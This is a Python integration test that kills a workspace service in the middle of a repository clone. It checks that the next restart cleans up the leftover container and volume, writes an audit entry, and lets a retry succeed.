# ---------------------------------------------------------------------------------------------

def test_a_create_killed_mid_clone_is_undone_at_restart(world: GitWorld,
                                                        tmp_path: Path) -> None:
    host, port = free_loopback()
    hosts = f"{world.host.ip}:{world.port}"
    env = {"CLAWDSPACE_GIT_HTTP_HOSTS": hosts, "CLAWDSPACE_GIT_TOKEN_HOSTS": hosts,
           "CLAWDSPACE_USE_GH_TOKEN": "false"}
    name = unique_name("crash")
    world.made.append(name)
    first = launch(tmp_path, host, port, GIT_PREFIX, SESSION_KEY, env)
    try:
        wait_healthy(first)
        status, body = first.request("PUT", "/api/templates", {"yaml": (
            f"name: {world.template}\nresources:\n  memory: 256m\nnetwork:\n  mode: internet\n"
            f"  allowCidrs: [{world.host.subnet}]\n")})
        assert status == 200, body
        # The clone of priv-slow waits at the gate: the create is half done when killed.
        def create_slowly() -> None:
            with contextlib.suppress(OSError):  # the service is killed under it
                first.request("POST", "/api/spaces", {
                    "name": name, "template": world.template,
                    "repoUrl": world.url("priv-slow"), "env": {"GITHUB_TOKEN": CANARY}})

        create = threading.Thread(target=create_slowly, daemon=True)
        create.start()
        wait_until(lambda: container_exists(world.docker_api, world.container(name)),
                   what="the create to make its container")
    finally:
        first.process.kill()
        first.process.wait()
    assert container_exists(world.docker_api, world.container(name))  # left behind by the kill
    second = launch(tmp_path, host, port, GIT_PREFIX, SESSION_KEY, env)
    try:
        wait_healthy(second)
        assert not container_exists(world.docker_api, world.container(name))
        assert not volume_exists(world.docker_api, f"{GIT_PREFIX}vol-{name}")
        undone = [json.loads(line) for line in
                  (second.data_dir / "audit.jsonl").read_text().splitlines()]
        assert any(e["type"] == "space.create.undone" and e.get("space") == name
                   for e in undone)
        # The client's retry works.
        status, body = second.request("POST", "/api/spaces", {
            "name": name, "template": world.template, "repoUrl": world.url("public")})
        assert status == 201, body
        status, body = second.request("DELETE", f"/api/spaces/{name}?removeVolume=true")
        assert status == 200, body
    finally:
        stop_process(second.process)
